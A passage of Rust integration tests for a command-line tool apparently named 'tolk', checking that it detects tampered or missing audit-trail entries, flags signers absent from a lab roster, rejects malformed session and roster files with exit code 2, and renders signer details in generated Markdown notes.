    assert_eq!(json["broken_at"].as_u64(), Some(entries as u64), "at the last entry: the work changed after it");
    assert_eq!(json["passed"], false);
}

#[test]
fn verify_finds_an_entry_removed_from_the_middle() {
    let (code, json) = verify("removed", |s| drop(trail_entries(s).remove(3)), None);
    assert_eq!(code, Some(1), "{json:#}");
    assert_eq!((json["chain"].as_str(), json["broken_at"].as_u64()), (Some("broken"), Some(4)));
    assert_eq!(json["fault"], "sequence");
}

#[test]
fn verify_fails_a_signer_missing_from_the_roster() {
    let dir = std::env::temp_dir().join(format!("tolk-cli-roster-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut roster: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(data("trail/roster.json")).unwrap()).unwrap();
    roster["analysts"].as_array_mut().unwrap().retain(|a| a["name"] != "Ola Nordmann");
    let kari_only = dir.join("kari-only.roster.json");
    std::fs::write(&kari_only, roster.to_string()).unwrap();
    let (code, json) = verify("unlisted", |_| {}, Some(&kari_only));
    std::fs::remove_dir_all(&dir).unwrap();
    assert_eq!(code, Some(1), "{json:#}");
    assert_eq!(json["chain"], "intact");
    assert_eq!(
        (json["signatures"][1]["valid"].as_bool(), json["signatures"][1]["roster"]["listed"].as_bool()),
        (Some(true), Some(false))
    );
}

#[test]
fn verify_fails_a_session_without_a_trail() {
    let (code, json) = verify("absent", |s| drop(s.as_object_mut().unwrap().remove("trail")), None);
    assert_eq!(code, Some(1), "{json:#}");
    assert_eq!((json["chain"].as_str(), json["entries"].as_u64()), (Some("absent"), Some(0)));
}

#[test]
fn verify_refuses_unusable_input_with_exit_2() {
    let dir = std::env::temp_dir().join(format!("tolk-cli-verify-garbage-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let garbage = dir.join("garbage.json");
    std::fs::write(&garbage, b"\x7fELF\x02\x01\x01\x00").unwrap();
    let not_a_session = dir.join("array.json");
    std::fs::write(&not_a_session, b"[1, 2]").unwrap();
    let bad_roster = dir.join("bad.roster.json");
    std::fs::write(
        &bad_roster,
        br#"{"format": "tolk-roster", "version": 1, "analysts": [{"name": "X", "key": "00", "public_key": "AAAA"}]}"#,
    )
    .unwrap();
    let (session, missing) = (data("trail/signed-off.session.json"), dir.join("none.json"));
    let cases: [(&[&std::ffi::OsStr], &str); 5] = [
        (&["verify".as_ref(), garbage.as_os_str()], "garbage.json: not a Tolk session file: not JSON"),
        (&["verify".as_ref(), not_a_session.as_os_str()], "array.json: not a Tolk session file"),
        (&["verify".as_ref(), missing.as_os_str()], "none.json"),
        (
            &["verify".as_ref(), session.as_os_str(), "--roster".as_ref(), bad_roster.as_os_str()],
            "bad.roster.json: analyst 1 (X)",
        ),
        (
            &["verify".as_ref(), session.as_os_str(), "--roster".as_ref(), garbage.as_os_str()],
            "garbage.json: not a Tolk roster",
        ),
    ];
    for (args, says) in cases {
        let out = tolk(args);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(out.stdout.is_empty(), "{args:?}");
        assert!(stderr.contains(says), "{args:?}: {stderr}");
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn note_with_a_roster_names_the_signers_as_the_lab_s() {
    let session = data("trail/signed-off.session.json");
    let roster = data("trail/roster.json");
    let note = |args: &[&std::ffi::OsStr]| {
        let out = tolk(args);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout).unwrap()
    };
    let md = note(&["note".as_ref(), session.as_os_str(), "--roster".as_ref(), roster.as_os_str()]);
    assert!(md.contains("| **Interpreted by** | Kari Nordmann (key "), "{md}");
    assert!(md.contains("signed 2026-12-07 14:05 UTC: signature valid, in the lab's roster |"), "{md}");
    assert!(md.contains("| **Roster** | Tolk test lab |"), "{md}");
    let md = note(&["note".as_ref(), session.as_os_str()]);
    assert!(md.contains("signature valid, not checked against a roster"), "{md}");
    let out = tolk(&["note".as_ref(), session.as_os_str(), "--roster".as_ref(), session.as_os_str()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("signed-off.session.json: not a Tolk roster"));
}
